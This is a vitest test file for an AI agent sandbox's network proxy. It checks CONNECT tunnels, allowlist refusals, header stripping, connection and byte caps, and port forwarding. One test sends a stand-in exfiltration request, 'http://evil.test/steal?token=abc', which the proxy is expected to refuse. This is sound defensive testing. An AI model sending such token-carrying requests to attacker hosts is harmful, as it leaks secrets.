// The tools' proxy on a Unix socket, as the sandbox's bridge reaches it, with real clients: raw CONNECTs,
// node:http requests, and the upstream servers they lead to on 127.0.0.1.
import { createServer as createHttpServer, request, type IncomingHttpHeaders } from 'node:http';
import { connect, createServer as createTcpServer, type Socket } from 'node:net';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import {
  parseAuthority,
  passedHeaders,
  requestTarget,
  ToolProxy,
  type ProxyLimits,
  type RefusedRequest,
  type Target,
  type Verdict,
} from '../../src/network/proxy.js';

const dir = await mkdtemp(path.join(tmpdir(), 'todo-agent-proxy-'));

const seen: Array<{ method?: string; url?: string; headers: IncomingHttpHeaders }> = [];
const web = createHttpServer((req, res) => {
  seen.push({ method: req.method, url: req.url, headers: req.headers });
  res.writeHead(201, 'Made', { 'X-Upstream': 'yes', Connection: 'close, X-Hop', 'X-Hop': 'gone' });
  res.end('upstream says hi');
});
const echo = createTcpServer({ allowHalfOpen: true }, (socket) => socket.pipe(socket));
await Promise.all(
  [web, echo].map((server) => new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))),
);
const webPort = (web.address() as { port: number }).port;
const echoPort = (echo.address() as { port: number }).port;

/** The decisions, as the gate would make them: two hosts lead to the servers, one is refused, one unknown. */
async function decide({ host }: Target): Promise<Verdict> {
  if (host === 'web.test') return { routes: [{ address: '127.0.0.1', family: 4, port: webPort }] };
  if (host === 'echo.test' || host === 'svc.test')
    return { routes: [{ address: '127.0.0.1', family: 4, port: echoPort }] };
  if (host === 'gone.test') return { failed: 'gone.test could not be looked up (ENOTFOUND)' };
  return { refused: { reason: `${host} is not in the allowlist`, allow: host } };
}

const opened: ToolProxy[] = [];
async function openProxy(
  name: string,
  limits: ProxyLimits = { connections: 64, bytes: 10_000_000 },
  forwards: Array<{ path: string; target: Target }> = [],
) {
  const refused: RefusedRequest[] = [];
  const socketPath = path.join(dir, `${name}.sock`);
  const proxy = await ToolProxy.open(
    socketPath,
    { decide, onRefused: (r) => refused.push(r), limits },
    forwards,
  );
  opened.push(proxy);
  return { proxy, socketPath, refused };
}

afterAll(async () => {
  for (const proxy of opened) proxy.close();
  await Promise.all([web, echo].map((server) => new Promise((resolve) => server.close(resolve))));
  await rm(dir, { recursive: true, force: true });
});

const main = await openProxy('main');

/** A raw connection to the proxy: send, and read until `until` shows up or the connection closes. */
function raw(socketPath: string): { socket: Socket; read(until: RegExp): Promise<string> } {
  const socket = connect(socketPath);
  let text = '';
  let closed = false;
  socket.on('error', () => undefined); // a write to a connection the proxy closed
  socket.setEncoding('utf8').on('data', (chunk: string) => (text += chunk));
  socket.once('close', () => (closed = true));
  return {
    socket,
    read: (until) =>
      new Promise((resolve) => {
        const check = (): void => {
          if (!until.test(text) && !closed) return;
          socket.off('data', check).off('close', check);
          resolve(text);
        };
        socket.on('data', check).on('close', check);
        check();
      }),
  };
}

/** A plain HTTP request through the proxy: its status, headers and body. */
function viaProxy(socketPath: string, target: string, headers: Record<string, string> = {}) {
  return new Promise<{ status: number; message: string; headers: IncomingHttpHeaders; body: string }>(
    (resolve, reject) => {
      const req = request({ socketPath, path: target, headers, agent: false }, (res) => {
        let body = '';
        res.setEncoding('utf8').on('data', (chunk: string) => (body += chunk));
        res.on('end', () =>
          resolve({
            status: res.statusCode ?? 0,
            message: res.statusMessage ?? '',
            headers: res.headers,
            body,
          }),
        );
      });
      req.on('error', reject);
      req.end();
    },
  );
}

describe('CONNECT', () => {
  it('opens a tunnel to an allowed host and passes bytes both ways, those sent with the request included', async () => {
    const client = raw(main.socketPath);
    client.socket.write('CONNECT echo.test:443 HTTP/1.1\r\nHost: echo.test:443\r\n\r\nping ');
    expect(await client.read(/ping $/)).toBe('HTTP/1.1 200 Connection Established\r\n\r\nping ');
    client.socket.write('pong');
    expect(await client.read(/pong$/)).toMatch(/ping pong$/);
    client.socket.destroy();
  });

  it('refuses a host the decision refuses: 403, the reason in the status line and the body, and reports it', async () => {
    const client = raw(main.socketPath);
    client.socket.write('CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n');
    const answer = await client.read(/input\.\n$/);
    expect(answer.split('\r\n')[0]).toBe(
      'HTTP/1.1 403 Refused by todo-agent: evil.test is not in the allowlist',
    );
    expect(
      answer.endsWith(
        "\r\n\r\ntodo-agent refused evil.test:443: evil.test is not in the allowlist. To allow it, add evil.test to the workflow's allowed_hosts input.\n",
      ),
    ).toBe(true);
    expect(main.refused.at(-1)).toMatchObject({
      host: 'evil.test',
      port: 443,
      method: 'CONNECT',
      reason: 'evil.test is not in the allowlist',
      allow: 'evil.test',
    });
  });

  it('answers 502 for a host that cannot be reached, without counting it as refused', async () => {
    const before = main.refused.length;
    const client = raw(main.socketPath);
    client.socket.write('CONNECT gone.test:443 HTTP/1.1\r\n\r\n');
    expect(await client.read(/ENOTFOUND\)\n$/)).toMatch(
      /^HTTP\/1\.1 502 [^]*gone\.test could not be looked up/,
    );
    expect(main.refused.length).toBe(before);
  });
});

describe('plain HTTP', () => {
  it('passes a request on in origin form, with its Host, without the proxy’s headers or hop-by-hop ones', async () => {
    const answer = await viaProxy(main.socketPath, 'http://web.test/path?q=1', {
      'Proxy-Authorization': 'Basic c2VjcmV0',
      'Proxy-Connection': 'keep-alive',
      Connection: 'keep-alive, X-Drop',
      'X-Drop': 'dropped',
      'X-Keep': 'kept',
    });
    expect(seen.at(-1)).toMatchObject({ method: 'GET', url: '/path?q=1' });
    const headers = seen.at(-1)!.headers;
    expect([
      headers.host,
      headers['x-keep'],
      headers['proxy-authorization'],
      headers['proxy-connection'],
      headers['x-drop'],
    ]).toEqual(['web.test', 'kept', undefined, undefined, undefined]);
    expect({
      status: answer.status,
      message: answer.message,
      body: answer.body,
      up: answer.headers['x-upstream'],
      hop: answer.headers['x-hop'],
    }).toEqual({
      status: 201,
      message: 'Made',
      body: 'upstream says hi',
      up: 'yes',
      hop: undefined,
    });
  });

  it('reads the host from the Host header when the request is in origin form', async () => {
    const answer = await viaProxy(main.socketPath, '/by-host', { Host: 'web.test' });
    expect([answer.status, seen.at(-1)?.url, seen.at(-1)?.headers.host]).toEqual([
      201,
      '/by-host',
      'web.test',
    ]);
  });

  it('refuses with a 403 and a plain-text reason, and reports it without its path', async () => {
    const answer = await viaProxy(main.socketPath, 'http://evil.test/steal?token=abc');
    expect([answer.status, answer.headers['content-type'], answer.body]).toEqual([
      403,
      'text/plain; charset=utf-8',
      "todo-agent refused evil.test:80: evil.test is not in the allowlist. To allow it, add evil.test to the workflow's allowed_hosts input.\n",
    ]);
    expect(main.refused.at(-1)).toEqual({
      host: 'evil.test',
      port: 80,
      method: 'GET',
      reason: 'evil.test is not in the allowlist',
      allow: 'evil.test',
      at: expect.any(Number),
    });
  });

  it('turns away what it does not pass on: https in a plain request, another scheme, an upgrade', async () => {
    expect((await viaProxy(main.socketPath, 'https://web.test/')).status).toBe(400);
    expect((await viaProxy(main.socketPath, 'ftp://web.test/')).status).toBe(400);
    const client = raw(main.socketPath);
    client.socket.write(
      'GET http://web.test/ws HTTP/1.1\r\nHost: web.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n',
    );
    expect((await client.read(/\n$/)).split('\r\n')[0]).toBe('HTTP/1.1 501 Not Implemented');
  });
});

describe('the run’s caps', () => {
  it('refuses a connection past the cap on connections at once, naming the cap', async () => {
    const capped = await openProxy('connections', { connections: 1, bytes: 10_000_000 });
    const first = raw(capped.socketPath);
    first.socket.write('CONNECT echo.test:443 HTTP/1.1\r\n\r\n');
    await first.read(/Established\r\n\r\n$/);
    const answer = await viaProxy(capped.socketPath, 'http://web.test/');
    expect([answer.status, capped.refused.at(-1)?.reason]).toEqual([
      403,
      "the run's cap of 1 connections at once is reached",
    ]);
    first.socket.destroy();
  });

  it('cuts the run off once its bytes pass the cap, and refuses what follows', async () => {
    const capped = await openProxy('bytes', { connections: 8, bytes: 50_000 });
    const client = raw(capped.socketPath);
    client.socket.write('CONNECT echo.test:443 HTTP/1.1\r\n\r\n');
    await client.read(/Established\r\n\r\n$/);
    client.socket.write(Buffer.alloc(100_000, 'x'));
    await new Promise((resolve) => client.socket.once('close', resolve));
    const answer = await viaProxy(capped.socketPath, 'http://web.test/');
    expect([answer.status, capped.refused.at(-1)?.reason]).toEqual([
      403,
      "the run's cap of 48.8 KiB through the proxy is reached",
    ]);
    expect(capped.proxy.bytes).toBeGreaterThan(50_000);
  });
});

describe('a forwarded port', () => {
  it('leads its socket’s connections to its one target once allowed, and closes a refused one at once', async () => {
    const allowed = path.join(dir, 'svc.sock');
    const denied = path.join(dir, 'denied.sock');
    const forwarded = await openProxy('forwards', undefined, [
      { path: allowed, target: { host: 'svc.test', port: 5432 } },
      { path: denied, target: { host: 'db.test', port: 5432 } },
    ]);
    const client = raw(allowed);
    client.socket.write('SELECT 1');
    expect(await client.read(/SELECT 1$/)).toBe('SELECT 1');
    client.socket.destroy();
    const refused = raw(denied);
    refused.socket.write('SELECT 1');
    expect(await refused.read(/never/)).toBe('');
    expect(forwarded.refused.at(-1)).toMatchObject({ host: 'db.test', port: 5432, method: 'TCP' });
  });
});

describe('reading requests', () => {
  it('parseAuthority takes host:port and [v6]:port, nothing else', () => {
    expect(['a.test:443', '[::1]:5432', 'a.test', 'a.test:0', '<x>:443', ':443'].map(parseAuthority)).toEqual(
      [
        { host: 'a.test', port: 443 },
        { host: '::1', port: 5432 },
        undefined,
        undefined,
        undefined,
        undefined,
      ],
    );
  });

  it('requestTarget reads an absolute URI before a Host header, and defaults to port 80', () => {
    expect(requestTarget({ url: 'http://a.test:8080/p?q', headers: { host: 'b.test' } })).toEqual({
      host: 'a.test',
      port: 8080,
      path: '/p?q',
      authority: 'a.test:8080',
    });
    expect(requestTarget({ url: '/p', headers: { host: 'b.test' } })).toMatchObject({
      host: 'b.test',
      port: 80,
    });
    expect(requestTarget({ url: '/p', headers: {} })).toHaveProperty('problem');
  });

  it('passedHeaders drops hop-by-hop headers and those Connection names, and sets Host first', () => {
    expect(
      passedHeaders(
        [
          'host',
          'x',
          'Connection',
          'X-A, close',
          'X-A',
          '1',
          'Keep-Alive',
          '5',
          'X-B',
          '2',
          'TE',
          'trailers',
        ],
        'a.test',
      ),
    ).toEqual(['Host', 'a.test', 'X-B', '2']);
  });
});
